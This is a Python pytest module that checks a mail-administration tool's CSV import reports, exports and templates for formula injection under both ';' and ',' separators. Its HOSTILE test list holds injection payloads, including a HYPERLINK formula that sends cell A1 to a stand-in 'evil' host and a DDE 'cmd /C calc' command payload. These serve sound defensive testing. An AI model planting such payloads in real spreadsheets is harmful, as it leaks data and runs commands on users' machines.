"""CSV files we write, opened by an Excel that splits at `;` (Vietnamese Windows) as well as at `,`.

A cell `Phòng A;=HYPERLINK(…)` used to be written as it is: harmless where Excel splits at `,`, two cells
(the second a formula) where it splits at `;`. Every file is read here the way both would read it
(tests/excel_reader.py) and no cell may come out as a formula; the values still read back exactly.
"""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest

from mailadmin.excel_csv import excel_csv, neutralise, restore
from mailadmin.importer.columns import header_labels
from mailadmin.model import Unit
from mailadmin.wiring import Services
from tests.excel_reader import formula_cells, read_cells
from tests.importer.helpers import csv_file
from tests.importer.test_apply import invoke

# What an official (or an attacker filling an HR sheet) may type into a title, a name or a unit code.
HOSTILE = ['Trưởng phòng;=HYPERLINK("http://evil/?"&A1;"Bấm")', "Phó phòng; =1+1", 'Kế toán;"=cmd|\' /C calc\'!A0',
           "Văn thư\r\n@SUM(1+1)", "a;-2+3;+4;@x", "=ngay từ đầu", "'=đã có dấu nháy", "Chuyên viên;'ghi chú"]
AS_READ = [cell.removeprefix("'") if cell.startswith("'=") else cell for cell in HOSTILE]  # the import's own undo
FUZZ_ALPHABET = ["=", "+", "-", "@", "\t", "\r", "\n", ";", ",", '"', "'", " ", "a", "Đ"]


def plain_rows(data: bytes) -> list[list[str]]:
    """The file as Python's csv module reads it, each cell restored."""
    return [[restore(cell) for cell in row] for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]


def test_no_cell_of_any_file_becomes_a_formula_with_either_separator() -> None:
    """Random rows over the characters that matter (seeded: the same 3,000 files every run)."""
    for seed in range(3000):
        draw = random.Random(seed)
        rows = [["".join(draw.choice(FUZZ_ALPHABET) for _ in range(draw.randint(0, 7)))
                 for _ in range(draw.randint(1, 4))] for _ in range(draw.randint(1, 3))]
        data = excel_csv(rows)
        assert formula_cells(data) == [], (seed, rows, data)
        assert plain_rows(data) == rows, (seed, rows)


def test_the_hostile_cells_read_back_and_stay_cells_with_a_comma() -> None:
    data = excel_csv([HOSTILE])
    assert formula_cells(data) == [] and plain_rows(data) == [HOSTILE]
    assert read_cells(data, ",") == [neutralise(cell) for cell in HOSTILE]
    assert neutralise("Phòng A;=x") == "Phòng A;'=x" and neutralise("-1") == "'-1" and neutralise("a-b;c") == "a-b;c"
    assert '"Trưởng phòng;' in data.decode("utf-8-sig")  # a cell holding ; is quoted


@pytest.fixture
def hostile_file(unit: Unit) -> bytes:
    """Rows refused for their name, unit or address: the results file echoes what was written."""
    return csv_file([[f"XL-{unit.code}-{n}", cell, cell, "", "", cell, "", ""] for n, cell in enumerate(HOSTILE)])


def test_the_dry_run_report_of_a_hostile_file(services: Services, unit: Unit, monkeypatch: pytest.MonkeyPatch,
                                             tmp_path: Path, hostile_file: bytes) -> None:
    (tmp_path / "staff.csv").write_bytes(hostile_file)
    report = tmp_path / "plan.csv"
    done = invoke(services, monkeypatch, "import", str(tmp_path / "staff.csv"), "--dry-run", "--report", str(report))
    assert done.exit_code == 2 and "Traceback" not in done.output, done.output
    data = report.read_bytes()
    assert formula_cells(data) == []
    rows = plain_rows(data)
    assert [row[2] for row in rows[1:]] == AS_READ and all(row[5] == "Lỗi (error)" for row in rows[1:])


def test_the_export_command_with_hostile_titles(services: Services, unit: Unit, monkeypatch: pytest.MonkeyPatch,
                                                tmp_path: Path) -> None:
    titles = [cell for cell in AS_READ if cell.isprintable()]  # a title holds no line break
    people = [[f"XT-{unit.code}-{n}", f"Lê Văn Thử {chr(ord('A') + n)}", unit.code, title]
              for n, title in enumerate(titles)]
    (tmp_path / "staff.csv").write_bytes(csv_file(people))
    assert invoke(services, monkeypatch, "import", str(tmp_path / "staff.csv")).exit_code == 0
    exported = invoke(services, monkeypatch, "export", "--unit", unit.code, "--format", "csv")
    assert exported.exit_code == 0, exported.output
    data = exported.stdout_bytes
    assert formula_cells(data) == []
    stored = {m.hr_id: m.title for m in services.imports.export(unit.code)}
    assert {row[0]: row[3] for row in plain_rows(data)[1:]} == stored
    assert {stored[f"XT-{unit.code}-{n}"] for n in range(len(titles))} == set(titles)


def test_the_template_command(services: Services, monkeypatch: pytest.MonkeyPatch) -> None:
    done = invoke(services, monkeypatch, "import", "template")
    assert done.exit_code == 0 and formula_cells(done.stdout_bytes) == []
    assert plain_rows(done.stdout_bytes)[0] == header_labels()


def test_an_export_with_hostile_titles_imports_back_unchanged(services: Services, unit: Unit,
                                                               monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    people = [[f"XR-{unit.code}-{n}", f"Lê Văn Về {chr(ord('A') + n)}", unit.code, title]
              for n, title in enumerate(cell for cell in AS_READ if cell.isprintable())]
    (tmp_path / "staff.csv").write_bytes(csv_file(people))
    assert invoke(services, monkeypatch, "import", str(tmp_path / "staff.csv")).exit_code == 0
    exported = invoke(services, monkeypatch, "export", "--unit", unit.code, "--format", "csv").stdout_bytes
    assert services.imports.preview(exported, "export.csv").plan.counts()["unchanged"] == len(people)
